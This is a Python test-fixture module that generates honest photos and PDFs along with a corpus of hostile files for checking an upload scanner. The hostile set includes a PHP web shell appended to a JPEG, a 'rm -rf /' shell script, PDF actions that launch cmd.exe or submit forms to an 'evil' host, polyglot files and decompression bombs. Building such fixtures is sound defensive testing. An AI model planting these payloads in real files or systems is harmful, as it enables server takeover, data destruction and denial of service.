"""Files for the tests: honest ones, as scanners and phones make them, and a corpus of hostile ones."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
from PIL import Image, ImageDraw

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array


def photo(kind="JPEG", size=(300, 400), seed=1, **options) -> bytes:
    """A picture with a red background, like a pas foto."""
    image = Image.new("RGB", size, (200, 20, 30))
    draw, dice = ImageDraw.Draw(image), random.Random(seed)
    for _ in range(60):
        x, y = dice.randrange(size[0]), dice.randrange(size[1])
        draw.ellipse((x, y, x + 40, y + 30), fill=tuple(dice.randrange(256) for _ in range(3)))
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def pdf(pages=1, change: Callable[[pikepdf.Pdf], None] | None = None, filler=0, **save) -> bytes:
    """A PDF with `filler` bytes of incompressible content on its first page."""
    document = pikepdf.Pdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if filler:
        noise = random.Random(filler).randbytes(filler)
        picture = pikepdf.Stream(document, noise)
        document.pages[0].obj.Contents = document.make_indirect(picture)
    if change:
        change(document)
    out = io.BytesIO()
    same = "encryption" not in save  # equal ones are the same file, whenever they are made
    document.save(out, **{"deterministic_id": same, **save})
    return out.getvalue()


def archive(name="x.html", data=b"<script>alert(1)</script>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr(name, data)
    return out.getvalue()


def png_chunks(*chunks: tuple[bytes, bytes]) -> bytes:
    out = [b"\x89PNG\r\n\x1a\n"]
    for kind, body in chunks:
        out.append(struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)))
    return b"".join(out)


def png_bomb(width, height, rows) -> bytes:
    """A PNG that announces `width` × `height` and packs `rows` rows of nothing."""
    packed = zlib.compress(b"\0" * (width + 1) * rows, 9)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return png_chunks((b"IHDR", head), (b"IDAT", packed), (b"IEND", b""))


def _script(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _named_script(document):
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", action])))


def _page_script(document):
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))


def _annotation(action):
    def change(document):
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        document.pages[0].obj.Annots = Array([document.make_indirect(link)])

    return change


def _attachment(document):
    document.attachments["evil.exe"] = b"MZ" + b"\0" * 200


def _associated(document):
    stream = document.make_indirect(pikepdf.Stream(document, b"MZ"))
    spec = Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=stream))
    document.Root.AF = Array([document.make_indirect(spec)])


def _form(document):
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA="<xdp/>")


def _huge_image(document):
    stream = pikepdf.Stream(document, zlib.compress(b"\0" * 4_000_000, 9))
    stream.update(Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=20_000, Height=20_000))
    stream.Filter, stream.BitsPerComponent, stream.ColorSpace = Name.FlateDecode, 8, Name.DeviceGray
    _show(document, stream)


def _show(document, stream):
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=document.make_indirect(stream)))


def _stream(data, filters):
    def change(document):
        stream = pikepdf.Stream(document, data)
        stream.Filter = filters
        _show(document, stream)

    return change


def _huge_page(document):
    document.pages[0].obj.MediaBox = Array([0, 0, 200_000, 200_000])


@cache
def _zeros(megabytes) -> bytes:
    pack, out = zlib.compressobj(9), []
    for _ in range(megabytes):
        out.append(pack.compress(b"\0" * 1_000_000))
    return b"".join(out) + pack.flush()


def _object_bomb() -> bytes:
    """An object stream of 400 MB, which a parser must unpack to find the catalogue."""
    packed = _zeros(400)
    head = b"%PDF-1.5\n"
    body = b"1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    body += packed + b"\nendstream endobj\n"
    place = len(head) + len(body)
    rows = struct.pack(">BHB", 0, 0, 0) + struct.pack(">BHB", 1, len(head), 0)
    rows += struct.pack(">BHB", 2, 1, 0) + struct.pack(">BHB", 1, place & 0xFFFF, 0)
    rows = b"".join(
        struct.pack(">BIB", *row) for row in ((0, 0, 0), (1, len(head), 0), (2, 1, 0), (1, place, 0))
    )
    cross = b"3 0 obj<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Length %d>>stream\n" % len(rows)
    return head + body + cross + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % place


def _deep() -> bytes:
    return pdf(change=lambda document: document.Root.__setitem__("/X", _nested(200)))


def _nested(depth):
    held = Array([])
    for _ in range(depth):
        held = Array([held])
    return held


def _many_objects(document):
    things = [document.make_indirect(Dictionary(A=number)) for number in range(25_000)]
    document.Root.X = Array(things)


def _cut(data: bytes, part: float) -> bytes:
    return data[: int(len(data) * part)]


def _jpeg_comment(text: bytes) -> bytes:
    plain = photo()
    return plain[:2] + b"\xff\xfe" + (len(text) + 2).to_bytes(2, "big") + text + plain[2:]


def _jpeg_400_megapixels() -> bytes:
    plain = bytearray(photo())
    place = plain.index(b"\xff\xc0") + 5
    plain[place : place + 4] = struct.pack(">HH", 20_000, 20_000)
    return bytes(plain)


def _encrypted(**passwords) -> bytes:
    return pdf(encryption=pikepdf.Encryption(**passwords))


@cache
def hostile() -> dict[str, bytes]:
    """Name → bytes of files that must never be kept."""
    honest = pdf(filler=3000)
    goto = Dictionary(S=Name.GoToR, F="//evil/share.pdf", D=Array([0, Name.Fit]))
    packed = pdf(
        change=_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
    )
    return {
        "empty": b"",
        "eicar.com": EICAR,
        "eicar_as.pdf": b"%PDF-1.4\n" + EICAR + b"\n%%EOF",
        "eicar_inside.pdf": honest.replace(b"%%EOF", b"%" + EICAR + b"\n%%EOF"),
        "eicar_inside.jpg": _jpeg_comment(EICAR),
        "html_as.pdf": b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF",
        "html.html": b"<!doctype html><script>alert(1)</script>",
        "svg.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "exe_as.pdf": b"MZ" + b"\0" * 500 + b"%PDF-1.4",
        "elf": b"\x7fELF" + b"\0" * 500,
        "word.docx": archive("word/document.xml"),
        "script.sh": b"#!/bin/sh\nrm -rf /\n",
        "junk_before.pdf": b"GIF89a" + honest,
        "html_before.pdf": b"<script>alert(1)</script>" + honest,
        "truncated.pdf": _cut(honest, 0.6),
        "no_table.pdf": honest.replace(b"startxref", b"startxxxx"),
        "damaged_table.pdf": honest.replace(b"\nstartxref\n", b"\nstartxref\n99"),
        "user_password.pdf": _encrypted(user="rahasia", owner="rahasia"),
        "owner_password.pdf": _encrypted(owner="rahasia"),
        "script_on_open.pdf": pdf(change=_script),
        "script_named.pdf": pdf(change=_named_script),
        "script_in_object_stream.pdf": packed,
        "script_on_page.pdf": pdf(change=_page_script),
        "launch.pdf": pdf(change=_annotation(Dictionary(S=Name.Launch, F="cmd.exe"))),
        "remote.pdf": pdf(change=_annotation(goto)),
        "submit.pdf": pdf(change=_annotation(Dictionary(S=Name.SubmitForm, F="http://evil"))),
        "attachment.pdf": pdf(change=_attachment),
        "associated_file.pdf": pdf(change=_associated),
        "xfa.pdf": pdf(change=_form),
        "zip_behind.pdf": honest + archive(),
        "zip_behind_hidden_end.pdf": honest + archive()[:-2] + b"\x05\x00%%EOF",
        "html_behind.pdf": honest + b"<script>alert(1)</script>",
        "601_pages.pdf": pdf(pages=601),
        "70_metres.pdf": pdf(change=_huge_page),
        "400_megapixels.pdf": pdf(change=_huge_image),
        "unpacks_200_mb.pdf": pdf(change=_stream(_zeros(200), Name.FlateDecode)),
        "twice_packed.pdf": pdf(
            change=_stream(zlib.compress(_zeros(200), 9), Array([Name.FlateDecode, Name.FlateDecode]))
        ),
        "object_stream_bomb.pdf": _object_bomb(),
        "deep.pdf": _deep(),
        "25000_objects.pdf": pdf(change=_many_objects, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "zip_behind.jpg": photo() + archive(),
        "php_behind.jpg": photo() + b"<?php system($_GET[0]);?>",
        "script_in_comment.jpg": _jpeg_comment(b"<script>alert(1)</script>"),
        "truncated.jpg": _cut(photo(), 0.7),
        "damaged.jpg": photo()[:400] + b"\xff\xff\x00\x01" * 30 + photo()[700:],
        "400_megapixels.jpg": _jpeg_400_megapixels(),
        "400_megapixels.png": png_bomb(20_000, 20_000, 200),
        "unpacks_beyond.png": png_bomb(200, 200, 100_000),
        "truncated.png": _cut(photo("PNG"), 0.7),
        "damaged.png": photo("PNG").replace(b"IDAT", b"IDAT\x01", 1),
        "zip_behind.png": photo("PNG") + archive(),
        "php_in_text.png": png_chunks((b"IHDR", b"\0\0\0\1\0\0\0\1\x08\0\0\0\0"), (b"tEXt", b"a\0<?php ?>")),
        "no_pixels.png": png_bomb(100, 100, 0),
        "gif.gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\0" * 20,
        "heic.heic": b"\x00\x00\x00\x18ftypheic" + b"\0" * 40,
    }


HONEST = {
    "photo.jpg": photo,
    "progressive.jpg": lambda: photo(progressive=True, seed=2),
    "gray.jpg": lambda: photo(seed=3, quality=20),
    "photo.png": lambda: photo("PNG", seed=4),
    "letter.pdf": lambda: pdf(filler=3000),
    "three_pages.pdf": lambda: pdf(pages=3),
    "opens_on_page_one.pdf": lambda: pdf(
        change=lambda d: d.Root.__setitem__("/OpenAction", Array([d.pages[0].obj, Name.Fit]))
    ),
    "link.pdf": lambda: pdf(
        change=_annotation(Dictionary(S=Name.URI, URI="https://verification.peruri.co.id"))
    ),
    "object_streams.pdf": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
}
